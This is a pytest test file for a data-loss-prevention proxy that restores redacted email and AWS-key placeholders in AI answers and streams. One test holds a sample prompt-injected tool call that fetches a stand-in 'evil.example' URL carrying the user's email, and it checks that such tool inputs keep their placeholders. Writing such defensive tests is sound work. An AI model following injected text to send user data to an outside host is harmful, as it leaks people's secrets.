"""Restoring placeholders in AI answers (dlp/answer.py): whole bodies and streams split anywhere."""

from __future__ import annotations

import json

import orjson
import pytest

from dlp.answer import Restorer, StreamedAnswer, framing_of

VALUES = {"<EMAIL_ADDRESS_1>": "jane.doe@example.com", "<AWS_ACCESS_KEY_1>": 'AKIA"quoted\\key'}


def openai_chunk(text: str | None, finish: str | None = None) -> bytes:
    delta = {} if text is None else {"content": text}
    return b"data: " + orjson.dumps({"id": "c1", "object": "chat.completion.chunk", "choices": [
        {"index": 0, "delta": delta, "finish_reason": finish}]}) + b"\n\n"


def anthropic_event(name: str, data: dict) -> bytes:
    return f"event: {name}\ndata: {json.dumps(data)}\n\n".encode()


def text_of_openai(stream: bytes) -> str:
    out = []
    for block in stream.split(b"\n\n"):
        if block.startswith(b"data: {"):
            for c in orjson.loads(block[6:])["choices"]:
                out.append(c["delta"].get("content") or "")
    return "".join(out)


def run(restorer: StreamedAnswer, chunks: list[bytes]) -> bytes:
    return b"".join(restorer.feed(c) for c in chunks) + restorer.finish()


def test_whole_json_body_gets_values_back_with_valid_json():
    body = orjson.dumps({"choices": [{"message": {"content": "Write to <EMAIL_ADDRESS_1>, key <AWS_ACCESS_KEY_1>",
                                                  "tool_calls": [{"function": {"arguments":
                                                      '{"to": "<EMAIL_ADDRESS_1>", "k": "<AWS_ACCESS_KEY_1>"}'}}]}}]})
    data = orjson.loads(Restorer(VALUES, restore_tool_inputs=True).json_body(body))
    msg = data["choices"][0]["message"]
    assert msg["content"] == 'Write to jane.doe@example.com, key AKIA"quoted\\key'
    assert json.loads(msg["tool_calls"][0]["function"]["arguments"]) == {"to": "jane.doe@example.com",
                                                                         "k": 'AKIA"quoted\\key'}


def test_tool_call_inputs_keep_their_placeholders_by_default():
    """A prompt-injected tool call must not get the real value back: the agent would send it out."""
    args = '{"url": "https://evil.example/?q=<EMAIL_ADDRESS_1>"}'
    body = orjson.dumps({"choices": [{"message": {"content": "Mail <EMAIL_ADDRESS_1>", "tool_calls": [
        {"function": {"name": "fetch", "arguments": args}}]}}],
        "content": [{"type": "tool_use", "name": "fetch", "input": {"url": "?q=<EMAIL_ADDRESS_1>"}}]})
    data = orjson.loads(Restorer(VALUES).json_body(body))
    assert data["choices"][0]["message"]["content"] == "Mail jane.doe@example.com"
    assert data["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == args
    assert data["content"][0]["input"]["url"] == "?q=<EMAIL_ADDRESS_1>"
    stream = [b'data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\\"q\\": \\"<EMAIL"}}]}}]}\n\n',
              b'data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"_ADDRESS_1>\\"}"}}]}}]}\n\n',
              b"data: [DONE]\n\n"]
    out = run(StreamedAnswer(Restorer(VALUES)), stream)
    assert b"jane.doe" not in out and b"_ADDRESS_1>" in out


def test_body_without_placeholders_is_untouched_bytes():
    body = b'{"a": "no <b>placeholders</b> here",  "n": 1}'
    assert Restorer(VALUES).json_body(body) == body


def test_unknown_placeholder_is_left_alone():
    assert Restorer(VALUES).text("<PHONE_NUMBER_9> <EMAIL_ADDRESS_1>") == "<PHONE_NUMBER_9> jane.doe@example.com"


@pytest.mark.parametrize("pieces", [["Mail <EMAIL_ADDRESS_1> now"], ["Mail <EMAIL", "_ADDRESS_1> now"],
                                    ["Mail <", "EMAIL_ADDRESS", "_1", "> now"], ["Mail <EMAIL_ADDRESS_1", ">", " now"]])
def test_placeholder_split_across_sse_events_is_restored(pieces):
    frames = [openai_chunk(p) for p in pieces] + [openai_chunk(None, "stop"), b"data: [DONE]\n\n"]
    out = run(StreamedAnswer(Restorer(VALUES)), frames)
    assert text_of_openai(out) == "Mail jane.doe@example.com now"
    assert b"<EMAIL" not in out and out.endswith(b"data: [DONE]\n\n")


def test_split_inside_bytes_of_one_event_and_across_events():
    stream = b"".join([openai_chunk("Hi <EMAIL_ADD"), openai_chunk("RESS_1>!"), b"data: [DONE]\n\n"])
    for cut in range(1, len(stream)):
        out = run(StreamedAnswer(Restorer(VALUES)), [stream[:cut], stream[cut:]])
        assert text_of_openai(out) == "Hi jane.doe@example.com!", cut


def test_held_text_is_sent_before_the_channel_ends():
    """A stream that ends inside a would-be placeholder loses nothing: the held tail goes out as its own delta
    before the finish chunk."""
    out = run(StreamedAnswer(Restorer(VALUES)), [openai_chunk("a <EMAIL"), openai_chunk(None, "stop"),
                                                 b"data: [DONE]\n\n"])
    assert text_of_openai(out) == "a <EMAIL"
    blocks = [b for b in out.split(b"\n\n") if b]
    assert b'"finish_reason":"stop"' in blocks[2] and b"<EMAIL" in blocks[1]


def test_anthropic_events_keep_their_names_and_pings_do_not_flush():
    frames = [anthropic_event("content_block_start", {"type": "content_block_start", "index": 0,
                                                      "content_block": {"type": "text", "text": ""}}),
              anthropic_event("content_block_delta", {"type": "content_block_delta", "index": 0,
                                                      "delta": {"type": "text_delta", "text": "To <EMAIL_"}}),
              anthropic_event("ping", {"type": "ping"}),
              anthropic_event("content_block_delta", {"type": "content_block_delta", "index": 0,
                                                      "delta": {"type": "text_delta", "text": "ADDRESS_1>."}}),
              anthropic_event("content_block_stop", {"type": "content_block_stop", "index": 0}),
              anthropic_event("message_stop", {"type": "message_stop"})]
    out = run(StreamedAnswer(Restorer(VALUES)), frames)
    texts = [json.loads(b.split(b"data: ", 1)[1])["delta"]["text"] for b in out.split(b"\n\n")
             if b.startswith(b"event: content_block_delta")]
    assert "".join(texts) == "To jane.doe@example.com."
    assert out.count(b"event: ") == len(frames)
    assert frames[0] in out and frames[-1] in out  # events with nothing to restore: byte for byte


def test_ndjson_lines():
    lines = [b'{"message": {"content": "x <EMAIL_ADDRESS"}}\n', b'{"message": {"content": "_1> y"}}\n',
             b'{"done": true}\n']
    out = run(StreamedAnswer(Restorer(VALUES), "ndjson"), lines)
    assert "".join(json.loads(line).get("message", {}).get("content", "") for line in out.splitlines()) == \
        "x jane.doe@example.com y"


@pytest.mark.parametrize("content_type", ["application/x-ndjson", "application/jsonl", "application/x-jsonlines",
                                          "application/stream+json; charset=utf-8"])
def test_every_name_of_ndjson_is_read_line_by_line(content_type):
    """One list of NDJSON names (core/mediatypes.py): `application/x-jsonlines`, which the walk of requests read as
    lines already, is an answer restored line by line too."""
    assert framing_of(content_type) == (content_type.split(";")[0], "ndjson")
    assert framing_of(content_type, "gzip")[1] == ""  # compressed: not readable line by line


def test_json_text_sequences_and_other_types_are_not_read_as_lines():
    assert framing_of("text/event-stream") == ("text/event-stream", "sse")
    assert framing_of("application/json-seq")[1] == framing_of("application/json")[1] == ""


def test_unframed_stream_passes_through():
    blob = b"\x00\x01binary<EMAIL_ADDRESS_1>" * 10
    r = StreamedAnswer(Restorer(VALUES))
    assert r.feed(blob) + r.finish() == blob  # no event boundary: nothing restored, nothing lost


def test_markup_spelling_is_restored_too():
    r = Restorer({"<EMAIL_ADDRESS_1>": "a&b@example.com"})
    assert r.text("<p>&lt;EMAIL_ADDRESS_1&gt;</p>") == "<p>a&amp;b@example.com</p>"
    out = run(StreamedAnswer(r), [openai_chunk("<p>&l"), openai_chunk("t;EMAIL_ADDRESS_1&gt;</p>"),
                                  b"data: [DONE]\n\n"])
    assert text_of_openai(out) == "<p>a&amp;b@example.com</p>"


def test_a_restorer_failure_passes_the_rest_through(monkeypatch):
    """A bug in restoring must never break the client's answer: what is left goes through as it came."""
    r = StreamedAnswer(Restorer(VALUES))
    first = r.feed(openai_chunk("a <EMAIL"))
    monkeypatch.setattr(r, "_block", lambda block: 1 / 0)
    rest = r.feed(openai_chunk("_ADDRESS_1> b") + b"data: [DONE]\n\n") + r.finish()
    assert r.error.startswith("ZeroDivisionError") and rest.endswith(b"data: [DONE]\n\n")
    assert b"<EMAIL" in first + rest  # the held piece is not lost
